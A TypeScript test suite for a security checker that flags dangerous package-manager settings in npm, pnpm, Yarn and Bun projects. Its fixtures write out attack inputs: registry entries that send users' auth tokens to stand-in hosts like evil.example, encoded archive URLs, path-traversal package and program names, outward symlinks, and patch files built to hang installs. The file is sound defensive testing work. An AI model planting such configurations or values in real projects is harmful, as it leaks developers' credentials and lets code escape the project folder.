  ])('also in the file that ~/%s names with %j, or the shell with %s', (own, key, variable, file) => {
    const dangersWith = (texts: Readonly<Record<string, string>>, place?: string) => {
      const HOME = folderWith({ [file]: ofUser['.npmrc'], ...texts });
      const env = place === undefined ? { HOME } : { HOME, [variable]: place && path.resolve(HOME, place) };
      const dangersFor = (address: string) =>
        settingsFor('npm', { [rc]: `@corp:registry=${address}\n` }, env).dangers;
      return [dangersFor('https://evil.example'), dangersFor('https://npm.corp.example')].map(({ length }) =>
        Math.min(length, 1),
      );
    };

    test('whose place is known', () => {
      const { HOME } = { HOME: '${HOME}' };
      for (const place of [`${HOME}/global`, '~/global', `"${HOME}/global"`])
        expect(dangersWith({ [own]: `${key}${place}\n` })).toEqual([1, 0]);
      expect(dangersWith({}, 'global')).toEqual([1, 0]);
      expect(dangersWith({}, '')).toEqual([0, 0]);
    });

    test('of which nothing is known where its place cannot be told', () => {
      for (const place of ['global', '${NOT_SET}/global', '/global$x'])
        expect(dangersWith({ [own]: `${key}${place}\n` })).toEqual([1, 1]);
      const relative = settingsFor(
        'npm',
        { [rc]: ofUser['.npmrc'] },
        { HOME: folderWith({}), [variable]: 'x' },
      );
      expect(relative.dangers).not.toEqual([]);
      const elsewhere = { [rc]: 'registry=https://npm.example\n' };
      const unclear = { HOME: folderWith({}), [variable]: 'x' };
      expect(settingsFor('npm', elsewhere, unclear).dangers).toHaveLength(1);
      expect(settingsFor('npm', elsewhere, { HOME: folderWith({}) }).dangers).toEqual([]);
    });
  });

  test('but what npm is told in lower case is a project’s folder, whose files are not the user’s', () => {
    const HOME = folderWith({
      '.npmrc': ofUser['.npmrc'],
      'x/etc/npmrc': '@corp:registry=https://evil.example\n',
    });
    const env = { HOME, npm_config_prefix: path.join(HOME, 'x') };
    const { dangers } = settingsFor('npm', { [rc]: '@corp:registry=https://evil.example\n' }, env);
    expect(dangers).toHaveLength(1);
  });

  test.each<[string, string]>([
    ['.bunfig.toml', '[install.scopes]\ncorp = { token = "$npm_token", url = "https://npm.corp.example" }\n'],
    [
      '.bunfig.toml',
      `[install.scopes]\ncorp = { a = "x", b = 'y' , url = "https://npm.corp.example", c = "z" }\n`,
    ],
    ['.yarnrc', 'cache-folder "D:\\\\yarn\\\\cache"\ninit-author-name Jürgen\n'],
  ])('the same one is no other, and a usual file of the user’s is understood: ~/%s: %j', (own, text) => {
    expect(settingsOf('npm', { [own]: text }, { '.npmrc': ofUser['.npmrc'] }).dangers).toEqual([]);
    expect(settingsOf('bun', { [own]: text }, { 'bunfig.toml': ofUser['bunfig.toml'] }).dangers).toEqual([]);
  });

  test.each([
    '"corp" = { url = "https://evil.example" }',
    'corp = { token = "x", url="https://evil.example" }',
  ])('also where Bun reads it from a table: %s', (line) => {
    const { dangers } = settingsOf(
      'bun',
      { '.npmrc': ofUser['.npmrc'] },
      { 'bunfig.toml': `[install.scopes]\n${line}\n` },
    );
    expect(dangers).toHaveLength(1);
  });
});

test('a binary lockfile may have folders of the project and addresses of programs', () => {
  const text = 'bun-lockfile-format-v0 a@file:../../lib./bin.jstiny';
  expect(settingsFor('bun', { [`${functions}/bun.lockb`]: text }).dangers).toEqual([]);
});

test('the same registry in another spelling is no other', () => {
  const withLines = (own: string, line: string) =>
    settingsFor('npm', { [rc]: line }, { HOME: folderWith({ '.npmrc': own }) }).dangers;
  const spelled = ['https://npm.example/a', 'https://npm.example/a/', '"https://NPM.example:443/a//"'];
  for (const one of spelled)
    for (const other of spelled)
      expect(withLines(`@a:registry=${one}\n`, `@a:registry=${other}\n`)).toEqual([]);
  expect(
    withLines('@a:registry=https://npm.example/a\n', '@a:registry=https://npm.example/b\n'),
  ).toHaveLength(1);
});

test.each<[string, string, number]>([
  ['registry=http://npm.example:4873/\n', 'what the user sends in the open may be in the lockfile', 0],
  ['@a:registry=http://u@npm.example/\n', 'so may that of a scope', 0],
  ['registry=https://npm.example/\n', 'what the user sends encrypted may not', 1],
  ['; registry=http://npm.example/\n', 'nor what only a comment sends', 1],
])('a user with %j: %s', (own, _, count) => {
  const user = folderWith({
    '.npmrc': `${own}//npm.example:4873/:_authToken=a\n//npm.example/:_authToken=a\n`,
  });
  const files = {
    [`${functions}/package-lock.json`]: JSON.stringify({
      packages: { 'node_modules/a': { resolved: 'http://npm.example:4873/a/-/a-1.0.0.tgz' } },
    }),
    [`${functions}/yarn.lock`]: 'a@1:\n  resolved "http://npm.example:4873/a/-/a-1.0.0.tgz"\n',
  };
  for (const one of ['npm', 'yarn'] as const)
    expect(settingsFor(one, files, { HOME: user }).dangers).toHaveLength(2 * count);
});

describe('the .npmrc of a workspace above that does not list the folder', () => {
  const files = {
    'package.json': '{"workspaces": ["packages/*"]}',
    '.npmrc': '@a:registry=https://npm.example/\n//npm.example/:_password=x\nglobal=true\n',
  };

  test('does not count, as for a plain install', () => {
    for (const one of ['npm', 'pnpm', 'bun'] as const) expect(settingsFor(one, files).dangers).toEqual([]);
  });

  test('stops pnpm, of which some releases read it', () => {
    const below = { ...files, 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n' };
    expect(settingsFor('pnpm', below).dangers).toHaveLength(1);
    expect(settingsFor('pnpm', { ...below, '.npmrc': 'save-exact=true' }).dangers).toEqual([]);
  });
});

test('a real lockfile and the packages that it installs hold no danger', () => {
  const here = process.cwd();
  expect(
    projectSettings('npm', { directory: here, root: here, top: here, env: { HOME: home } }).dangers,
  ).toEqual([]);
});

test('a folder that a package of a workspace needs is looked for from that package, also in the lockfile', () => {
  const functions = 'app/functions';
  const dangersWith = (lib: string) => {
    const needed = { dependencies: { lib } };
    const lockfile = {
      lockfileVersion: 2,
      packages: {
        '': { workspaces: ['app/*'] },
        [functions]: needed,
        lib: { version: '1.0.0', bin: { lib: 'cli.js' } },
        'node_modules/functions': { resolved: functions, link: true },
        'node_modules/lib': { resolved: 'lib', link: true },
      },
      dependencies: {
        functions: { version: `file:${functions}`, requires: { lib } },
        lib: { version: 'file:lib' },
      },
    };
    const root = folderWith({
      'package.json': '{ "workspaces": ["app/*"] }',
      'package-lock.json': JSON.stringify(lockfile),
      [`${functions}/package.json`]: '{}',
    });
    const place = { directory: path.join(root, functions), root, top: root, env: { HOME: home } };
    return projectSettings('npm', place).dangers;
  };
  expect(dangersWith('file:../../lib')).toEqual([]);
  expect(dangersWith('file:../../../lib')).toEqual(['package-lock.json has packages in folders outside']);
});

describe('what is yours, wherever the shell or npm names it', () => {
  const evil = 'https://registry.example.org/';
  const openAddress = { [`${functions}/.npmrc`]: 'registry=http://npm.example.com/', [manifest]: '{}' };
  const handed = /hands a token of yours to what it names in/;

  test.each([
    'npm_config_userconfig',
    'NPM_CONFIG_USERCONFIG',
    'npm_config_globalconfig',
    'NPM_CONFIG_GLOBALCONFIG',
  ])('is known from the file that %s names', (name) => {
    const file = path.join(folderWith({ rc: '//npm.example.com/:_authToken=${MINE_TOKEN}' }), 'rc');
    const { dangers, passed } = settingsFor('npm', openAddress, { [name]: file, MINE_TOKEN: 'x' });
    expect(dangers).toEqual([expect.stringContaining('sends what is yours for npm.example.com unencrypted')]);
    expect(passed).toContain('MINE_TOKEN');
  });

  test.each([
    'npm_config__auth',
    'NPM_CONFIG__AUTHTOKEN',
    'YARN_NPM_AUTH_TOKEN',
    'YARN_NPM_AUTH_IDENT',
    'BUN_CONFIG_TOKEN',
    'NPM_CONFIG_TOKEN',
  ])('%s in the environment goes to no registry that only the project names', (name) => {
    const rows = [
      ['npm', '.npmrc', `registry=${evil}`],
      ['yarn', '.yarnrc.yml', `npmRegistryServer: "${evil}"\n`],
      ['bun', 'bunfig.toml', `[install]\nregistry = "${evil}"\n`],
    ] as const;
    for (const [packageManager, file, text] of rows) {
      const files = { [`${functions}/${file}`]: text, [manifest]: '{}' };
      expect(settingsFor(packageManager, files, { [name]: 'x' }).dangers).toEqual([
        expect.stringMatching(handed),
      ]);
      expect(settingsFor(packageManager, files).dangers).toEqual([]);
    }
  });

  test('a token of the shell goes to no other port of a registry of yours', () => {
    const rc = path.join(folderWith({ rc: '//npm.example.com:8443/:_authToken=a' }), 'rc');
    const dangersAt = (port: string) =>
      settingsFor(
        'npm',
        { [`${functions}/.npmrc`]: `//npm.example.com${port}/:_authToken=\${MINE}`, [manifest]: '{}' },
        { npm_config_userconfig: rc, MINE: 'x' },
      ).dangers;
    expect(dangersAt(':8443')).toEqual([]);
    expect(dangersAt(':9443')).toEqual([expect.stringContaining('hands MINE to')]);
    expect(dangersAt('')).toEqual([expect.stringContaining('hands MINE to')]);
  });

  test('Yarn takes no variables from a file of the project', () => {
    const files = { [`${functions}/.env.yarn`]: 'A=b', [manifest]: '{}' };
    expect(settingsFor('yarn', files).dangers).toEqual([`it would read ${functions}/.env.yarn`]);
  });
});

describe('what is yours goes to a server of yours only, whatever names it', () => {
  const open = { [`${functions}/.npmrc`]: 'registry=http://npm.example.com:4873/', [manifest]: '{}' };
  const sent = /sends what is yours for npm\.example\.com unencrypted/;

  test.each([
    'npm_config_//npm.example.com:4873/:_authToken',
    'NPM_CONFIG_//npm.example.com:4873/:_authToken',
    'pnpm_config_//npm.example.com:4873/:_authToken',
  ])('a token in the variable %s is not sent in the open', (name) => {
    expect(settingsFor('npm', open, { [name]: 'x' }).dangers).toEqual([expect.stringMatching(sent)]);
    expect(settingsFor('npm', open).dangers).toEqual([]);
  });

  test.each(['${HOST}', '${HOST:-other.example.com}', '${NONE-npm.example.com:4873}'])(
    'nor is one for a server that the user’s own file names by a variable: %s',
    (host) => {
      const top = folderWith({ 'home/.npmrc': `//${host}/:_authToken=a\n` });
      const env = { HOME: path.join(top, 'home'), HOST: 'npm.example.com:4873' };
      expect(settingsFor('npm', open, env).dangers).toEqual([expect.stringMatching(sent)]);
    },
  );

  test('a variable makes no server that it names the user’s own', () => {
    const files = { [`${functions}/.npmrc`]: '//evil.example/:_authToken=${MINE}', [manifest]: '{}' };
    const env = { npm_config_registry: 'https://evil.example/', MINE: 'x' };
    expect(settingsFor('npm', files, env).dangers).toEqual([expect.stringContaining('hands MINE to')]);
  });

  test.each<[string, string]>([
    ['.npmrc', 'registry=https://npm.example.com:8443/'],
    ['package.json', '{"dependencies": {"a": "https://npm.example.com:8443/a.tgz"}}'],
    [
      'pnpm-lock.yaml',
      'packages:\n  a@1.0.0:\n    resolution: {tarball: "https://npm.example.com:8443/a.tgz"}\n',
    ],
  ])('a token for a host is not sent to another port of it by %s: %s', (name, text) => {
    const dangersFor = (own: string) => settingsOf('pnpm', { '.npmrc': own }, { [name]: text }).dangers;
    const token = '//npm.example.com/:_authToken=a\n';
    expect(dangersFor(token)).toEqual([
      `${functions}/${name} sends what is yours for npm.example.com to port 8443`,
    ]);
    expect(dangersFor(`${token}@a:registry=https://npm.example.com:8443/\n`)).toEqual([]);
    expect(dangersFor('//npm.example.com:4873/:_authToken=a\n')).toEqual([]);
  });

  test('a server may be an address of version 6', () => {
    const address = { 'package.json': '{"dependencies": {"a": "http://[::1]:4873/a.tgz"}}' };
    const { dangers } = settingsOf('npm', { '.npmrc': '//[::1]:4873/:_authToken=a\n' }, address);
    expect(dangers).toHaveLength(1);
  });

  test.each(['"ht\\ttp:', '"ht\\ntp:', '"ht\n\n      tp:', '"ht\ttp:'])(
    'an address in the open is one with what package managers take out of it, too: %j',
    (scheme) => {
      const text = `packages:\n  a@1.0.0:\n    resolution: {tarball: ${scheme}//npm.example.com/a.tgz"}\n`;
      const { dangers } = settingsOf(
        'pnpm',
        { '.npmrc': '//npm.example.com/:_authToken=a\n' },
        { 'pnpm-lock.yaml': text },
      );
      expect(dangers).toEqual([expect.stringMatching(sent)]);
    },
  );
});

test('a token in a file above the project is the user’s: Yarn sends it only to the server that it is for', () => {
  const scope = (server: string, token = '') =>
    `npmScopes:\n  a:\n    npmRegistryServer: "https://${server}"\n${token && `    npmAuthToken: ${token}\n`}`;
  const dangersOf = (ofProject: string, ofHome = '') => {
    const top = folderWith({
      'home/.yarnrc.yml': ofHome,
      '.yarnrc.yml': scope('npm.example.com', 'x'),
      [`${functions}/.yarnrc.yml`]: ofProject,
    });
    const directory = path.join(top, functions);
    const env = { HOME: path.join(top, 'home') };
    return projectSettings('yarn', { directory, root: directory, top: path.join(top, 'shop'), env }).dangers;
  };
  expect(dangersOf(scope('npm.example.com'))).toEqual([]);
  expect(dangersOf(scope('other.example'))).toContainEqual(expect.stringContaining('hands a token of yours'));
  // That file can come with the project too, so nothing from the home folder may be sent.
  expect(dangersOf(scope('npm.example.com'), 'npmAuthToken: mine\n')).not.toEqual([]);
});

test('Bun takes for a comment what is none in YAML, and the other way round: neither is looked past', () => {
  const lockWith = (line: string) => `{"workspaces": {"": {}}, "packages": {\n${line}\n}}\n`;
  const dangersOf = (line: string) =>
    settingsFor('bun', { [manifest]: '{}', [`${functions}/bun.lock`]: lockWith(line) }).dangers;
  expect(dangersOf('"a": ["a@1.0.0", "", {"bin": "a//#.js"}, "sha512-a/*b=="],')).toEqual([]);
  const entry = '"a": ["a@file:../../../../victim", {}],';
  for (const sign of ['#', '//', '/* */', '/*, # */', "'"])
    expect(dangersOf(`${sign} ${entry}`), sign).toHaveLength(1);
});

test('a path in Bun’s lockfile starts from the member that needs the package, and leads outside from no other', () => {
  const dangersOf = (
    archive: string,
    files: Readonly<Record<string, string>> = {},
    members = [functions],
  ) => {
    const lock = {
      workspaces: {
        '': {},
        ...Object.fromEntries(members.map((one) => [one, { dependencies: { a: `file:${archive}` } }])),
      },
      packages: { a: [`a@${archive}`, {}] },
    };
    const top = folderWith({
      'x.tgz': '',
      'project/lib/a.tgz': '',
      'project/package.json': JSON.stringify({ workspaces: [functions] }),
      'project/bun.lock': JSON.stringify(lock),
      [`project/${functions}/package.json`]: '{}',
      ...files,
    });
    const root = path.join(top, 'project');
    const place = { directory: path.join(root, functions), root, top: root, env: { HOME: home } };
    return projectSettings('bun', place).dangers;
  };
  const outside = 'bun.lock has packages in folders outside';
  expect(dangersOf('../../../../lib/a.tgz')).toEqual([]);
  expect(dangersOf('./lib/a.tgz', {}, [])).toEqual([]);
  expect(dangersOf('../../../../../x.tgz')).toEqual([outside]);
  expect(dangersOf('../../../../lib/none.tgz')).toEqual([outside]);
  expect(dangersOf('../x.tgz', { 'project/shop/src/app/x.tgz': '' })).toEqual([outside]);
  const many = [...Array(20_001).keys()].map((index) => `p/${index}`);
  const unread = expect.stringContaining('only the package manager can read');
  expect(dangersOf('../../../../lib/a.tgz', {}, many)).toEqual([unread]);
  // The members themselves are also packages in the lockfile. Their paths start from it.
  const packages = many.slice(0, 200).map((one, index) => [`p${index}`, [`p${index}@workspace:${one}`]]);
  const ofMembers = (more: object) => ({
    'project/bun.lock': JSON.stringify({
      workspaces: Object.fromEntries(['', ...many.slice(0, 200)].map((one) => [one, {}])),
      packages: { ...Object.fromEntries(packages), ...more },
    }),
  });
  expect(dangersOf('', ofMembers({}))).toEqual([]);
  expect(dangersOf('', ofMembers({ b: ['b@workspace:../x.tgz'] }))).toEqual([outside]);
});

describe('where Yarn’s lockfile says that archives are', () => {
  const lock = (bindings: string) =>
    `__metadata:\n  version: 8\n\n"a@npm:1.0.0":\n  resolution: "a@${bindings}"\n`;
  const archive = (address: string) => lock(`npm:1.0.0::__archiveUrl=${encodeURIComponent(address)}`);
  const patched = (address: string) =>
    lock(`patch:a@${encodeURIComponent(`npm:1.0.0::__archiveUrl=${encodeURIComponent(address)}`)}#./a.patch`);
  const own =
    'npmRegistryServer: "https://npm.example.com"\nnpmRegistries:\n  "//npm.example.com":\n    npmAuthToken: a\n';
  const dangersOf = (user: string, text: string) =>
    settingsOf('yarn', { '.yarnrc.yml': user }, { 'yarn.lock': text }).dangers;

  test('nothing is sent that is for another server, or in the open', () => {
    for (const text of [archive, patched]) {
      expect(dangersOf(own, text('https://npm.example.com/a.tgz'))).toEqual([]);
      expect(dangersOf(own, text('https://npm.pkg.github.com/download/@a/b/1.0.0/c'))).toEqual([]);
      expect(dangersOf('', text('https://other.example/a.tgz'))).toEqual([]);
      expect(dangersOf(own, text('https://other.example/a.tgz'))).toHaveLength(1);
      expect(dangersOf(own, text('https://npm.example.com%2F@other.example/a.tgz'))).toHaveLength(1);
      expect(dangersOf(own, text('http://npm.example.com/a.tgz'))).toHaveLength(1);
    }
  });

  test('nor is a token of the shell', () => {
    const scope =
      'npmScopes:\n  a:\n    npmRegistryServer: "https://npm.pkg.github.com"\n    npmAuthToken: "${NPM_TOKEN}"\n';
    const withLock = (text: string) =>
      settingsFor(
        'yarn',
        { [`${functions}/.yarnrc.yml`]: scope, [`${functions}/yarn.lock`]: text, [manifest]: '{}' },
        { NPM_TOKEN: 'x' },
      ).dangers;
    expect(withLock(archive('https://npm.pkg.github.com/a.tgz'))).toEqual([]);
    expect(withLock(archive('https://other.example/a.tgz'))).toHaveLength(1);
  });

  test('however the address is spelled', () => {
    for (const one of [
      '__archive%55rl=https%3A%2F%2Fother.example',
      '__archiveUrl=http%73%3A%2F%2Fother.example',
    ])
      expect(dangersOf(own, lock(`npm:1.0.0::${one}`))).toHaveLength(1);
  });

  test('they may be escaped as often as a package has patches, but not so often that undoing takes long', () => {
    const nested = (levels: number): string =>
      `::${Array(levels)
        .fill(0)
        .reduce((text: string) => encodeURIComponent(text), 'https://other.example')}`;
    const stopped = `${functions}/yarn.lock is written in a way that only the package manager can read`;
    for (const levels of [1, 2, 5, 9])
      expect(dangersOf(own, lock(nested(levels))).join()).toContain('a token');
    for (const text of [nested(12), `a::%${'25'.repeat(500)}`])
      expect(dangersOf('', `# ${text}`)).toEqual([stopped]);
  });
});

test.each<[PackageManager, string, string]>([
  ['npm', '.npmrc', 'canary\n'],
  ['yarn', '.yarnrc', 'canary "5"\n'],
  ['yarn', '.yarnrc.yml', 'canary: 5\n'],
  ['pnpm', 'pnpm-workspace.yaml', 'canary: 5\n'],
  ['bun', 'bunfig.toml', 'canary = 5\n'],
])('%s: of a file outside, to which %s is a link, no line is shown', (packageManager, name, text) => {
  if (!hasLinks) return;
  const top = folderWith({ outside: text, [`top/${functions}/x.js`]: '' });
  const directory = path.join(top, 'top', functions);
  symlinkSync(path.join(top, 'outside'), path.join(directory, name));
  const place = { directory, root: directory, top: path.join(top, 'top'), env: { HOME: home } };
  expect(projectSettings(packageManager, place).dangers).toEqual([
    `${functions}/${name} is a link that leads elsewhere`,
  ]);
});

test
  .runIf(hasLinks)
  .each([
    '.pnp.js',
    'pnpm-lock.main.yaml',
    'pnpm-workspace.yaml',
    'yarn-error.log',
    '.yarn/build-state.yml',
    '.yarn/unplugged/a-npm-1.0.0-0123456789',
  ])('what a package manager writes is no link that leads out: %s', (name) => {
  const top = folderWith({ outside: '', [`top/${functions}/.yarn/unplugged/x`]: '' });
  const directory = path.join(top, 'top', functions);
  symlinkSync(path.join(top, 'outside'), path.join(directory, name));
  const place = { directory, root: directory, top: path.join(top, 'top'), env: { HOME: home } };
  for (const one of ['npm', 'pnpm', 'yarn', 'bun'] as const)
    expect(projectSettings(one, place).dangers).toEqual([
      `${functions}/${name} is a link that leads elsewhere`,
    ]);
});

test.each<[PackageManager, string, string]>([
  ['pnpm', 'package.json', '{"pnpm": {"packageExtensions": {"a": {"dependencies": {"@b/../../c": "1"}}}}}'],
  ['pnpm', 'package.json', '{"dependencies": {"a": "npm:@b/../../c@1.0.0"}}'],
  ['npm', 'package.json', '{"overrides": {"a": {"b": "npm:../c@1"}}}'],
  ['pnpm', 'pnpm-workspace.yaml', 'packageExtensions:\n  a:\n    dependencies:\n      "@b/../../c": "1"\n'],
  ['pnpm', 'pnpm-workspace.yaml', 'catalog:\n  a: npm:@b/../../c@1\n'],
  ['yarn', '.yarnrc.yml', 'packageExtensions:\n  "a@*":\n    dependencies:\n      "..": "1"\n'],
  ['bun', 'pnpm-workspace.yaml', 'overrides:\n  a: link:../../../../../victim\n'],
])('%s: a name that the project adds to others in %s is not a path: %s', (packageManager, file, text) => {
  const files = { [manifest]: '{}', [`${functions}/${file}`]: text };
  expect(settingsFor(packageManager, files).dangers).not.toEqual([]);
});

test.each(['My Functions', '.functions', '_x', '@acme/my functions', 'a/b', 'Ünï', 'node_modules', ''])(
  'a package of the project may have a name that it could not be published with: %j',
  (name) => {
    for (const one of ['npm', 'pnpm', 'yarn', 'bun'] as const)
      expect(settingsFor(one, { [manifest]: JSON.stringify({ name }) }).dangers).toEqual([]);
  },
);

test.each(['..', '.', '../x', '@a/../../x', '/x', 'a\\..\\x', 'c:x'])(
  'but none that leads to another folder: %j',
  (name) => {
    for (const one of ['npm', 'pnpm', 'yarn', 'bun'] as const)
      expect(settingsFor(one, { [manifest]: JSON.stringify({ name }) }).dangers).toEqual([
        `${manifest} has a name that leads to another folder`,
      ]);
  },
);

/** Folders in a node_modules that package managers may take for packages. */
const installedFolders = [
  'a',
  '@a/b',
  '@a/.b',
  '@a/@b',
  ...['node_modules', '@a/node_modules', '@a/Node_Modules', '@a/node_modules/a', '.a/node_modules'],
  ...['.pnpm', '.pnpm/a@1.0.0/node_modules/a', '.pnpm/node_modules/a', '.pnpm/node_modules/@a/node_modules'],
  ...['.store/a@1.0.0/package', '.store/@a/b@1.0.0/node_modules/@a/b'],
  'a/node_modules/b',
];

test('globs are compared with the folders of a workspace, each listed once, but not endlessly', () => {
  const dangersOf = (count: number) => {
    const workspaces = [functions, ...[...Array(count).keys()].map((index) => `*x${index}`)];
    const folders = [...Array(300).keys()].map((index) => [`folder${index}/x.js`, ''] as const);
    const files = { ...Object.fromEntries(folders), 'package.json': JSON.stringify({ workspaces }) };
    const top = folderWith({ [manifest]: '{}', ...files });
    const listings: string[] = [];
    membersOf(top, top, (folder) => {
      listings.push(folder);
      return listedIn(folder);
    });
    expect(listings).toEqual([top]);
    const place = { directory: path.join(top, functions), root: top, top, env: { HOME: home } };
    return projectSettings('npm', place).dangers;
  };
  expect(dangersOf(100)).toEqual([]);
  expect(dangersOf(2000)).toEqual([expect.stringContaining('too many folders to be looked through')]);
});

test('each folder of modules is looked through once, however they are nested', () => {
  const listings: string[] = [];
  const top = folderWith({ [`${'node_modules/'.repeat(40)}x`]: '' });
  installedIn(top, (folder) => {
    listings.push(folder);
    return listedIn(folder);
  });
  expect(new Set(listings).size).toBe(listings.length);
});

test.runIf(hasLinks)('each folder of programs is looked through once, whatever names lead to it', () => {
  const top = folderWith({ 'a/b/c/x.js': '', 'a/d/x.js': '' });
  const links = [...Array(20).keys()].map((index) => path.join(top, `link${index}`));
  for (const link of links) symlinkSync('a', link);
  const listings: string[] = [];
  const places = [...links, ...['a', 'a/b', 'a/b/c', 'a/d', 'a/b/../d'].map((one) => path.join(top, one))];
  const outside = programsOutside(places, top, (folder) => {
    listings.push(folder);
    return listedIn(folder);
  });
  expect(outside).toEqual([]);
  expect(listings).toHaveLength(4);
});

describe('a program of a package', () => {
  const oddNames = [
    '..',
    '.',
    '../x',
    '@a/../../x',
    '@a/b/../../../x',
    'a/../../x',
    '/x',
    'a\\..\\x',
    'c:x',
    'a//x',
  ];
  const [ofProject, ofInstalled] = [
    manifest,
    installedFolders.map((one) => `${functions}/node_modules/${one}/package.json`),
  ];

  test.each(oddNames)('has no name that leads to another folder, also where one is installed: %j', (name) => {
    const text = JSON.stringify({ bin: { a: 'a.js', [name]: 'a.js' } });
    for (const one of ['npm', 'pnpm', 'yarn', 'bun'] as const)
      expect(settingsFor(one, { [ofProject]: text }).dangers).toEqual([
        `${ofProject} has a program that leads to another folder`,
      ]);
    for (const file of ofInstalled)
      expect(settingsFor('pnpm', { [manifest]: '{}', [file]: text }).dangers).toEqual([
        `${file} has a program that leads to another folder`,
      ]);
  });

  test.each(oddNames)('is not called as an installed package with the name %j', (name) => {
    for (const file of ofInstalled)
      expect(
        settingsFor('pnpm', { [manifest]: '{}', [file]: JSON.stringify({ name, bin: 'a.js' }) }).dangers,
      ).toEqual([`${file} has a name that leads to another folder`]);
  });

  test.each(['package.yaml', 'package.json5'])('that is installed is not read in a %s', (name) => {
    for (const file of ofInstalled) {
      const other = file.replace('package.json', name);
      expect(settingsFor('pnpm', { [manifest]: '{}', [other]: '{}' }).dangers).toEqual([
        `it would read ${other}`,
      ]);
      expect(settingsFor('pnpm', { [manifest]: '{}', [file]: '{}', [other]: '{}' }).dangers).toEqual([]);
    }
  });

  test.each([
    { bin: { a: `${'../'.repeat(20)}x` } },
    { directories: { bin: '../'.repeat(20) } },
    { bin: `${'..\\'.repeat(20)}x` },
  ])('that is installed is in no folder outside: %j', (content) => {
    for (const file of ofInstalled)
      expect(settingsFor('pnpm', { [manifest]: '{}', [file]: JSON.stringify(content) }).dangers).toEqual([
        `${file} has a program that leads to another folder`,
      ]);
  });

  test.each([
    { name: '@a/b', bin: 'a.js' },
    { bin: { a: './bin/a.js', '@a/b': 'bin/b', 'b.cmd': '../../b.js', 'a b': 'c' } },
    { directories: { bin: './bin' } },
  ])('may be anything else: %j', (content) => {
    const text = JSON.stringify(content);
    for (const file of [ofProject, ...ofInstalled])
      expect(settingsFor('pnpm', { [manifest]: '{}', [file]: text }).dangers).toEqual([]);
  });
});

describe('a folder of the project that npm takes for a package is looked at, however npm comes to it', () => {
  const lib = { name: 'a', dependencies: { b: 'git+ssh://git@example.com/b' } };
  const locked = (folder: string) => ({
    [`${functions}/package-lock.json`]: JSON.stringify({
      packages: { [folder]: { name: 'a' }, 'node_modules/a': { resolved: folder, link: true } },
    }),
  });
  const needing = (folder: string, list: string, range: string) => ({
    [`${functions}/${folder}/package.json`]: JSON.stringify({ [list]: { a: range } }),
  });
  const dangersWith = (folder: string, files: Readonly<Record<string, string>>, links = {}) => {
    const text = JSON.stringify(lib);
    const top = folderWith({ [manifest]: '{}', [`${functions}/${folder}/package.json`]: text, ...files });
    const directory = path.join(top, functions);
    for (const [link, target] of Object.entries<string>(links)) {
      mkdirSync(path.dirname(path.join(directory, link)), { recursive: true });
      symlinkSync(target, path.join(directory, link), 'junction');
    }
    const place = { directory, root: directory, top, env: { HOME: home } };
    return projectSettings('npm', place).dangers;
  };
  const found = (folder: string) => [expect.stringContaining(`${folder}/package.json has b fetched`)];

  test.each<[string, string, Readonly<Record<string, string>>]>([
    ['a lockfile', 'lib', locked('lib')],
    ['a link of a lockfile into another node_modules', 'c/node_modules/a', locked('c/node_modules/a')],
    ...['dependencies', 'optionalDependencies', 'peerDependencies'].map(
      (list): [string, string, Readonly<Record<string, string>>] => [
        `${list} of an installed package`,
        'lib',
        needing('node_modules/c', list, 'file:../../lib'),
      ],
    ),
    [
      'a package in a package',
      'lib',
      needing('node_modules/@c/d/node_modules/e', 'dependencies', 'file:../../../../../lib'),
    ],
    [
      'a package that is installed in a folder of the project',
      'lib',
      {
        ...needing('.', 'dependencies', 'file:./c'),
        ...needing('c/node_modules/d', 'dependencies', 'file:../../../lib'),
      },
    ],
    [
      'a package that has a key twice',
      'lib',
      {
        [`${functions}/node_modules/c/package.json`]:
          '{"dependencies": {}, "dependencies": {"a": "file:../../lib"}}',
      },
    ],
  ])('by %s', (_, folder, files) => {
    expect(dangersWith(folder, files)).toEqual(expect.arrayContaining(found(folder)));
  });

  test.runIf(hasLinks)('in a store, too', () => {
    const place = 'node_modules/.pnpm/a@1/node_modules/a';
    expect(dangersWith(place, {}, { 'node_modules/a': '.pnpm/a@1/node_modules/a' })).toEqual(found(place));
  });

  test.runIf(hasLinks)('but not one that nobody comes to', () => {
    expect(dangersWith('lib', {}, { 'c/node_modules/a': '../../lib' })).toEqual([]);
  });
});

const brokenPatches: [PackageManager, string, name?: string, setting?: string][] = [
  ['pnpm', '{"pnpm": {"patchedDependencies": {"a@1": "a.patch"}}}'],
  ['bun', '{"patchedDependencies": {"a@1": "a.patch"}}'],
  ['yarn', '{"dependencies": {"a": "patch:a@npm%3A1.0.0#./a.patch"}}'],
  ['yarn', '{"resolutions": {"a": "patch:a@npm%3A1.0.0#~/a.patch"}}'],
  ['yarn', '{"dependencies": {"a": "patch:a@npm%3A1.0.0#optional!./a.patch"}}'],
  ['yarn', '{"dependencies": {"a": "patch:a@npm%3A1.0.0#x!optional!~/a.patch"}}'],
  ['yarn', '{"dependencies": {"a": "patch:a@patch%3Aa@npm%253A1.0.0%23./a.patch#./b.patch"}}'],
  ...['a<b', 'a:b', 'a>b', 'builtin<a'].map((name): [PackageManager, string, string] => [
    'yarn',
    `{"resolutions": {"a": "patch:a@npm%3A1.0.0#~/${name}.patch"}}`,
    `${name}.patch`,
  ]),
  ...[
    'catalog:\n  a: "patch:a@npm%3A1.0.0#~/a.patch"\n',
    'packageExtensions:\n  "b@*":\n    dependencies:\n      a: "patch:a@npm%3A1.0.0#~/a.patch"\n',
  ].map((text): [PackageManager, string, string, string] => ['yarn', '{}', 'a.patch', text]),
];

test.runIf(process.platform !== 'win32').each(brokenPatches)(
  '%s: a patch that never ends, or is too large to look at, stops the install: %s %s %s',
  (packageManager, text, name = 'a.patch', setting = '') => {
    const make = [
      (file: string) => void execFileSync('mkfifo', [file]),
      (file: string) => writeFileSync(file, Buffer.alloc(17 * 2 ** 20)),
    ];
    for (const one of make) {
      const top = folderWith({ [manifest]: text, [`${functions}/.yarnrc.yml`]: setting });
      const directory = path.join(top, functions);
      one(path.join(directory, name));
      const place = { directory, root: directory, top, env: { HOME: home } };
      expect(projectSettings(packageManager, place).dangers).toEqual([
        expect.stringContaining(`${name} is written`),
      ]);
    }
  },
);
